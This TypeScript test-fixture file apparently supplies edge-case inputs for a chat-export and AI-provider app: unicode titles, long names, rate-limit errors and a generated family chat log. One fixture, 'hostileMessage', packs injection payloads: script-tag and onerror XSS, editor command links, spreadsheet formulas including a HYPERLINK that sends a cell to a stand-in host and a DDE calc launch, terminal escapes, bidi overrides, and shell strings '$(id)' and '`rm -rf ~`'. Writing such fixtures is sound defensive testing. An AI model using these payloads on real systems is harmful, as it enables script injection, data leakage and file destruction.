import type { Random } from './random';

/** A message that tries every surface it may be shown on: HTML, Markdown, a terminal, a spreadsheet, a text direction. */
export const hostileMessage = [
  'I copied this from the site, I think it broke something:',
  '</script><script>alert("hello")</script><img src=x onerror=alert(1)>',
  '[open me](command:workbench.action.terminal.new) <a href="command:workbench.action.quit">and me</a>',
  '=HYPERLINK("http://example.invalid/?x="&A1,"refund")',
  "+cmd|' /C calc'!A0",
  '\u001b[31mred\u001b[0m \u001b]0;a new title\u0007 \u202eelddir eht morf\u202c \u200bhidden',
  '{{speaker}} $(id) `rm -rf ~` %s %d',
].join('\n');

/** Family emoji with joiners, flags, skin tones, combining marks, and text that runs right to left. */
export const unicodeTitle = '👩‍👩‍👧‍👦 家族会議 · אחרי החתונה · Zoë & Åse 🏳️‍🌈 – ça va? नमस्ते';

export const longName = [
  'Maximiliana-Theodora',
  'von und zu Hohenstein-Ravensburg-Lichtenfels-Altmark',
  'Fernández de Córdoba',
].join(' ');

/** A title of exactly 300 characters. */
export const longTitle =
  'What I would have said if there had been one more evening, one more chair and nobody else in the kitchen, '
    .repeat(3)
    .padEnd(300, '.')
    .slice(0, 300);

/** What providers answer when too much is asked. The first form is JSON inside a string, as one client library throws it. */
export function rateLimited(random: Random): unknown {
  return random.pick([
    '{"status":429,"message":"Too many requests, please wait before trying again."}',
    { status: 429, message: 'Too many tokens per minute for this model', retryAfterSeconds: random.int(5, 40) },
    { status: 503, message: 'The model is overloaded' },
  ]);
}

export const promptTooLong = { status: 400, message: 'prompt is too long: 524902 tokens > 200000 maximum' };

const lines = [
  'are you coming home for dinner?',
  'yes. leaving soon',
  'soon like soon or soon like yesterday',
  '😅 soon like soon',
  'can you get milk',
  'they only had oat',
  'ok. I put the kids to bed',
  'I said I was sorry',
  'I know. I read it',
  'can we talk on Sunday',
];

/** An exported chat of `bytes` bytes of UTF-8, or a few more. */
export function exportedChat(bytes: number, names: readonly [string, string]): string {
  const rows: string[] = [];
  let size = 0;
  for (let i = 0; size < bytes; i++) {
    const day = String(1 + (Math.floor(i / 40) % 28)).padStart(2, '0');
    const minute = String(i % 60).padStart(2, '0');
    const row = `[${day}/${String(1 + (Math.floor(i / 1120) % 12)).padStart(2, '0')}/2025, 19:${minute}] ${names[i % 2]}: ${lines[i % lines.length]}\n`;
    rows.push(row);
    size += Buffer.byteLength(row);
  }
  return rows.join('');
}
